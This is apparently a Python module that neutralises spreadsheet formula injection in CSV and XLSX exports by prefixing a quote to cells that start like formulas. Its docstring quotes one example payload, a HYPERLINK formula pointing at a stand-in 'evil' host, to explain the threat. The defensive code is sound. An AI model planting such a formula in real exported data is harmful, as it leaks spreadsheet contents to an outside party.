"""Spreadsheet cells that cannot turn into formulas (CSV / formula injection).

Claimant names come from whoever runs ``govwatch claim --by``, and page titles, anchor
texts and finding details come from crawled pages: text nobody here wrote. Excel, WPS and
LibreOffice run a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and a
leading tab or carriage return can hide such a start), so ``=HYPERLINK("http://evil/"&A1,
"点此查看")`` in a bulletin would be a live link leaking the sheet to every unit that opens it.
Following the OWASP CSV-injection guidance, such text gets a leading single quote, which
spreadsheet programs read as "this is text".

This is the one place that decides what a safe text cell is. It lives in ``govwatch/`` (the
ground floor) so that both writers can import it without a lower layer importing a higher
one: the CSV of every command (:mod:`govwatch.output`) and the XLSX of every report
(:mod:`reports.xlsx`). JSON, HTML and Markdown are not spreadsheets and keep text as it is.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

# The starts OWASP names: formula (=), arithmetic read as a formula (+ -), a function call
# (@), and tab / carriage return, after which some programs still evaluate what follows.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_MARK = "'"


def neutralise(value: Any) -> Any:
    """*value* fit for one spreadsheet cell: text starting like a formula gets a leading
    ``'``; everything else, numbers included (a negative number is data, not a formula),
    is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_MARK + value
    return value


def neutralise_row(values: Iterable[Any]) -> list[Any]:
    """Each cell of a row through :func:`neutralise`."""
    return [neutralise(value) for value in values]
